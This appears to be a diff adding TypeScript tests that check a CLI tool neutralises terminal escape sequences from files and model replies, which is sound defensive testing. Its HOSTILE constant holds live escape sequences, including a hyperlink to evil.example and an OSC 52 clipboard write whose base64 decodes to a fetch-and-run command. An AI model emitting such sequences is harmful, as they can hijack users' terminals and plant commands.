@@ -1,0 +1,67 @@
+// Control sequences in a file or a model's reply reach a terminal as visible text, never as commands to it; piped and --json output keep their bytes.
+import * as assert from 'uvu/assert';
+import { visible } from '../../lib/cli/visible';
+import { forge } from '../helpers/forge';
+import { test } from '../helpers/harness';
+import { reply, startOpenAIServer } from '../helpers/openai-server';
+import { repoWith } from '../helpers/repo';
+import { forgeOnTty } from '../helpers/tty';
+
+const ESC = '\x1b';
+const BEL = '\x07';
+/** A window title (OSC 0), a hyperlink (OSC 8), a clipboard write (OSC 52), a cleared screen (CSI 2J) and a C1 CSI. */
+const HOSTILE = [
+  `${ESC}]0;pwned${BEL}`,
+  `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
+  `${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL}`,
+  `${ESC}[2J`,
+  '\u009b31m',
+].join(' ');
+
+/** Whether `shown` holds any control character a terminal would act on (forge's own colour and status-line erase aside). */
+const obeyable = (shown: string) =>
+  /[\x00-\x08\x0b\x0c\x0d\x0e-\x1a\x1c-\x1f\x7f-\x9f]|\x1b(?!\[[0-9;]*m)/.test(shown.replace(/\r\n/g, '\n').replaceAll('\r\x1b[K', ''));
+
+test('visible: C0, DEL and C1 shown in caret or code point form; tab, newline, CRLF and (when coloured) SGR kept', () => {
+  assert.is(visible(`a${ESC}]0;t${BEL}b`, { colour: false }), 'a^[]0;t^Gb');
+  assert.is(visible('x\u009by\x7f', { colour: false }), 'x<U+009B>y^?');
+  assert.is(visible('a\tb\r\nc\rd', { colour: false }), 'a\tb\r\nc^Md');
+  assert.is(visible(`${ESC}[31mred${ESC}[0m${ESC}[2J`, { colour: true }), `${ESC}[31mred${ESC}[0m^[[2J`);
+  assert.is(visible(`${ESC}[31mred`, { colour: false }), '^[[31mred');
+});
+
+test('forge read and forge search on a terminal show a file’s escape sequences; piped, the bytes are as in the file', async () => {
+  const dir = repoWith({ 'notes.txt': `title ${HOSTILE} end\n` });
+  for (const args of [
+    ['read', 'notes.txt'],
+    ['search', 'title'],
+  ]) {
+    const tty = await forgeOnTty(args, { cwd: dir, prompt: 'never', answers: [] });
+    assert.is(tty.code, 0, tty.output);
+    assert.not.ok(obeyable(tty.output), `nothing for the terminal to obey: ${JSON.stringify(tty.output)}`);
+    assert.match(tty.output, /\^\[\]0;pwned\^G/);
+    assert.match(tty.output, /\^\[\[2J/);
+    const piped = await forge(args, { cwd: dir });
+    assert.ok(piped.stdout.includes(`${ESC}]52;c;`), 'piped: the file’s bytes');
+  }
+  const json = await forge(['read', 'notes.txt', '--json'], { cwd: dir });
+  assert.is(json.records[0]!.lines[0].text, `title ${HOSTILE} end`, 'NDJSON keeps the bytes');
+});
+
+test('a model reply holding an OSC 52 clipboard write reaches the terminal as text, streamed or not', async () => {
+  const server = await startOpenAIServer({ script: [reply({ text: ['Done. ', `${ESC}]52;c;`, `ZXZpbA==${BEL} bye`] })] });
+  try {
+    const dir = repoWith({ 'a.txt': 'a\n' });
+    const r = await forgeOnTty(['agent', '--endpoint', server.url, '--model', 'test-model', 'say hi'], {
+      cwd: dir,
+      prompt: 'never',
+      answers: [],
+    });
+    assert.not.ok(obeyable(r.output), JSON.stringify(r.output));
+    assert.match(r.output, /\^\[\]52;c;ZXZpbA==\^G bye/);
+  } finally {
+    await server.close();
+  }
+});
+
+test.run();
